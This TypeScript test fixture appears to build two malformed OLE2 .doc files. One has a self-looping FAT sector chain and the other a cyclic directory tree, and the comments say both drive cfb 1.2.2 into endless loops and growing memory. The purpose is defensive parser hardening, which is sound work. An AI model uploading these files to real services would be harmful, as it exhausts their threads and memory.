// Hostile .doc files, written byte by byte: OLE2 compound files small enough to upload in a
// blink whose structure sends a parser round in circles. cfb 1.2.2 follows a stream's sector chain
// without remembering where it has been, and walks a directory's parent links the same way, so
// each of these kept a thread busy (and its memory growing) until the process died.
// [MS-CFB] 2.2 (header), 2.3 (FAT), 2.6 (directory entries).

const SECTOR = 512;
const ENDOFCHAIN = 0xfffffffe;
const FATSECT = 0xfffffffd;
const FREESECT = 0xffffffff;
const NOSTREAM = 0xffffffff;

/** A version 3 header (512-byte sectors) with one FAT sector, sector 0, and the directory at `directoryStart`. */
function header(directoryStart: number): Buffer {
  const bytes = Buffer.alloc(SECTOR);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes, 0);
  bytes.writeUInt16LE(0x003e, 24); // minor version
  bytes.writeUInt16LE(0x0003, 26); // major version 3
  bytes.writeUInt16LE(0xfffe, 28); // little-endian
  bytes.writeUInt16LE(9, 30); // 2^9 = 512-byte sectors
  bytes.writeUInt16LE(6, 32); // 64-byte mini sectors
  bytes.writeUInt32LE(1, 44); // one FAT sector
  bytes.writeUInt32LE(directoryStart, 48);
  bytes.writeUInt32LE(0x1000, 56); // mini stream cutoff
  bytes.writeUInt32LE(ENDOFCHAIN, 60); // no mini FAT
  bytes.writeUInt32LE(ENDOFCHAIN, 68); // no DIFAT sectors
  bytes.writeUInt32LE(0, 76); // the FAT is sector 0
  for (let i = 1; i < 109; i += 1) bytes.writeUInt32LE(FREESECT, 76 + i * 4);
  return bytes;
}

/** A FAT sector: `entries[n]` is the sector after n; everything unlisted is free. */
function fat(entries: Record<number, number>): Buffer {
  const bytes = Buffer.alloc(SECTOR, 0xff);
  for (const [sector, next] of Object.entries(entries))
    bytes.writeUInt32LE(next, Number(sector) * 4);
  return bytes;
}

type DirectoryEntry = {
  name: string;
  /** 1 storage, 2 stream, 5 root. */
  type: 1 | 2 | 5;
  left?: number;
  right?: number;
  child?: number;
  start?: number;
  size?: number;
};

/** Directory sectors holding `entries`, four to a sector, the rest unused. */
function directory(entries: DirectoryEntry[]): Buffer {
  const sectors = Math.max(1, Math.ceil(entries.length / 4));
  const bytes = Buffer.alloc(sectors * SECTOR);
  for (let i = 0; i < sectors * 4; i += 1) {
    const at = i * 128;
    const entry = entries[i];
    bytes.writeUInt32LE(NOSTREAM, at + 68);
    bytes.writeUInt32LE(NOSTREAM, at + 72);
    bytes.writeUInt32LE(NOSTREAM, at + 76);
    if (!entry) continue;
    const name = Buffer.from(`${entry.name}\u0000`, "utf16le");
    name.copy(bytes, at);
    bytes.writeUInt16LE(name.length, at + 64);
    bytes.writeUInt8(entry.type, at + 66);
    bytes.writeUInt8(1, at + 67); // black
    bytes.writeUInt32LE(entry.left ?? NOSTREAM, at + 68);
    bytes.writeUInt32LE(entry.right ?? NOSTREAM, at + 72);
    bytes.writeUInt32LE(entry.child ?? NOSTREAM, at + 76);
    bytes.writeUInt32LE(entry.start ?? ENDOFCHAIN, at + 116);
    bytes.writeUInt32LE(entry.size ?? 0, at + 120);
  }
  return bytes;
}

/**
 * 1,536 bytes: a header, a FAT and a directory whose WordDocument stream (4 KB, so stored in
 * regular sectors) starts at sector 100, past the end of the file, where the FAT says sector 100
 * is followed by sector 100. A reader that follows the chain without a cycle check never stops.
 */
export function docSectorLoop(): Buffer {
  return Buffer.concat([
    header(1),
    fat({ 0: FATSECT, 1: ENDOFCHAIN, 100: 100 }),
    directory([
      { name: "Root Entry", type: 5, child: 1 },
      { name: "WordDocument", type: 2, start: 100, size: 4096 },
    ]),
  ]);
}

/**
 * 2,048 bytes whose sector chains are all sound, so a check of the chains lets it through, but
 * whose directory tree is not a tree: storage B's child is D, D's left sibling is C and its right
 * sibling A, and C's child is B. Building A's full path then climbs B, C, B, C, … for ever, the path
 * growing at every step. Only a bound on the checking thread's time or memory ends it.
 */
export function docDirectoryLoop(): Buffer {
  return Buffer.concat([
    header(1),
    fat({ 0: FATSECT, 1: 2, 2: ENDOFCHAIN }),
    directory([
      { name: "Root Entry", type: 5 },
      { name: "A", type: 1 },
      { name: "B", type: 1, child: 4 },
      { name: "C", type: 1, child: 2 },
      { name: "D", type: 1, left: 3, right: 1 },
      { name: "WordDocument", type: 2, size: 100 },
    ]),
  ]);
}
